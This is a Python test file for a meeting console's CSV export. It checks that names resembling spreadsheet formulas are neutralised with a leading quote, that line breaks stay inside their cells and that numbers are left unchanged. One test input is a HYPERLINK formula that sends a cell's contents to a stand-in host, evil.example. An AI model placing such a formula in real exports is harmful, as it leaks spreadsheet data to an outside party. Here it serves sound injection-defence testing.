"""CSV export is safe to open in a spreadsheet: a display name the MCU sent that looks like a formula is written as
text (a leading single quote, the OWASP way), a name with a line break stays in its cell, and numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

from sqlalchemy.orm import Session

from console.reports.export import FLOOR_FIELDS, render_csv
from db.engine import open_database
from db.records import record_join

ROOT = Path(__file__).resolve().parents[2]
T0 = datetime(2025, 3, 1, 1, 0, tzinfo=UTC)

# display name as the MCU sent it → the cell a spreadsheet gets
NAMES = {
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")': '\'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "-1+2": "'-1+2",
    "+84 215 3825 111": "'+84 215 3825 111",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "Xã Quài Cang\r\n=2+2": "Xã Quài Cang\r\n=2+2",  # the formula is not at the cell's start
    "Trạm, số 2": "Trạm, số 2",
    'Điểm "A"': 'Điểm "A"',
    "Ban 1 = Ban 2": "Ban 1 = Ban 2",
}


def test_names_that_look_like_formulas_are_text_and_line_breaks_stay_in_their_cell(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'log.sqlite3'}"
    engine = open_database(url)
    try:
        with Session(engine) as s:
            for n, name in enumerate(NAMES):
                record_join(s, name, T0 + timedelta(minutes=n), participant_uuid=f"u{n}")
            s.commit()
    finally:
        engine.dispose()
    done = subprocess.run(
        [
            sys.executable,
            str(ROOT / "main.py"),
            "export",
            "--db",
            url,
            "--what",
            "attendance",
            "--format",
            "csv",
        ],
        capture_output=True,
        timeout=60,
        env={**os.environ, "QT_QPA_PLATFORM": "offscreen"},
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith(b"\xef\xbb\xbf")  # the UTF-8 byte order mark Excel needs for Vietnamese
    text = done.stdout.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["site"] for r in rows] == list(NAMES.values())
    assert [r["participant_uuid"] for r in rows] == [f"u{n}" for n in range(len(NAMES))]
    assert all(r["site_code"] == "" for r in rows)  # none of them is in the registry
    for row in rows:  # numbers and times are written as they are
        assert int(row["id"]) > 0
        assert row["joined_at"].startswith("2025-03-01T")


def test_numbers_are_never_neutralised_only_text() -> None:
    row = dict.fromkeys(FLOOR_FIELDS)
    row.update(id=7, site="-1+2", delegate="=A1", priority=-3, seq=-1, reason="-", topic="+ ngân sách")
    out = render_csv(FLOOR_FIELDS, [row]).decode("utf-8")
    cells = next(iter(csv.DictReader(io.StringIO(out, newline=""))))
    assert (cells["priority"], cells["seq"], cells["id"]) == ("-3", "-1", "7")
    assert (cells["site"], cells["delegate"], cells["reason"], cells["topic"]) == (
        "'-1+2",
        "'=A1",
        "'-",
        "'+ ngân sách",
    )
    assert out.count("\n") == 2  # the header and one record
